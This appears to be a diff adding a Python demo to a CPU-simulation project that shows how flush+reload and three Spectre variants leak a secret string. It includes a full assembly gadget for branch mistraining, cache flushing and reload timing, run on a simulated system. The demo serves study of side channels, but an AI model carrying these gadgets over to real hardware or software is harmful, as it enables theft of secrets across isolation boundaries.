@@ -1,0 +1,142 @@
+#!/usr/bin/env python
+"""Covert-channel anatomy: all three Spectre variants + reload timing.
+
+Runs each variant standalone against the same secret and shows why the
+flush+reload channel works: the latency gap between a cached probe line
+(the one the squashed transient load touched) and everything else.
+
+Run:  python examples/covert_channel_demo.py
+"""
+
+from repro.attack import SpectreConfig, build_spectre
+from repro.kernel import System, build_binary
+
+SECRET = b"TheMagicWords!!!"
+
+
+def run_variant(variant):
+    system = System(seed=3, target_data=SECRET)
+    config = SpectreConfig(secret_length=len(SECRET), repeats=1)
+    system.install_binary("/bin/a", build_spectre(variant, config))
+    process = system.spawn("/bin/a")
+    process.run_to_completion(max_instructions=60_000_000)
+    snap = process.pmu.read()
+    return bytes(process.stdout), snap
+
+
+def timing_histogram():
+    """Measure one byte's reload latencies directly (v1 machinery)."""
+    source = r"""
+    main:
+        ; leak secret byte 0, but record EVERY candidate's latency
+        li   a2, 6
+    train:
+        beq  a2, zero, flush
+        andi a0, a2, 7
+        call victim
+        addi a2, a2, -1
+        jmp  train
+    flush:
+        la   t1, probe
+        li   t2, 256
+    flush_loop:
+        beq  t2, zero, strike
+        clflush 0(t1)
+        addi t1, t1, 64
+        addi t2, t2, -1
+        jmp  flush_loop
+    strike:
+        li   a0, 0x30000000
+        la   t1, array1
+        sub  a0, a0, t1
+        call victim
+        ; reload all candidates, write latencies to lat[]
+        li   t3, 0
+    reload:
+        slti t0, t3, 256
+        beq  t0, zero, report
+        la   t1, probe
+        muli t2, t3, 64
+        add  t1, t1, t2
+        mfence
+        rdcycle gp
+        lw   t2, 0(t1)
+        rdcycle lr
+        sub  lr, lr, gp
+        la   t1, lat
+        shli t2, t3, 2
+        add  t1, t1, t2
+        sw   lr, 0(t1)
+        addi t3, t3, 1
+        jmp  reload
+    report:
+        li   a0, 1
+        la   a1, lat
+        li   a2, 1024
+        call libc_write
+        li   a0, 0
+        call libc_exit
+    victim:
+        la   t0, array1_size
+        lw   t0, 0(t0)
+        bgeu a0, t0, victim_ret
+        la   t1, array1
+        add  t1, t1, a0
+        lb   t2, 0(t1)
+        muli t2, t2, 64
+        la   t3, probe
+        add  t3, t3, t2
+        lw   t3, 0(t3)
+    victim_ret:
+        ret
+    .data
+    array1: .byte 0,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15
+    array1_size: .word 16
+    lat: .space 1024
+        .align 6
+    probe: .space 16448
+    """
+    system = System(seed=3, target_data=SECRET)
+    system.install_binary("/bin/t", build_binary("timing", source))
+    process = system.spawn("/bin/t")
+    process.run_to_completion(max_instructions=10_000_000)
+    import struct
+    latencies = struct.unpack("<256I", bytes(process.stdout))
+    return latencies
+
+
+def main():
+    from repro.attack import calibrate
+
+    print("=== channel calibration ===")
+    result = calibrate(seed=3)
+    print(f"{result.describe()}")
+    print(f"channel separable: {result.separable}\n")
+
+    print("=== reload-timing anatomy (one byte) ===")
+    latencies = timing_histogram()
+    hot = min(range(256), key=lambda i: latencies[i])
+    cold = sorted(latencies)[128]
+    print(f"fastest candidate: {hot} ({chr(hot)!r}) at "
+          f"{latencies[hot]} cycles")
+    print(f"median (uncached) latency: {cold} cycles")
+    print(f"secret byte 0 is {SECRET[0]} ({chr(SECRET[0])!r}) — "
+          f"{'MATCH' if hot == SECRET[0] else 'MISS'}")
+
+    print("\n=== all three transient-execution variants ===")
+    for variant, mechanism in (
+        ("v1", "bounds-check bypass (BHT mistraining)"),
+        ("rsb", "return-stack-buffer mismatch"),
+        ("sbo", "speculative buffer overflow (store->ret redirect)"),
+    ):
+        leaked, snap = run_variant(variant)
+        ok = sum(a == b for a, b in zip(leaked, SECRET))
+        print(f"{variant:4s} [{mechanism}]")
+        print(f"     leaked {leaked!r} ({ok}/{len(SECRET)})")
+        print(f"     spec fills={snap['spec_cache_fills']}, "
+              f"squashed={snap['squashed_instructions']}, "
+              f"flushes={snap['clflush_instructions']}")
+
+
+if __name__ == "__main__":
+    main()
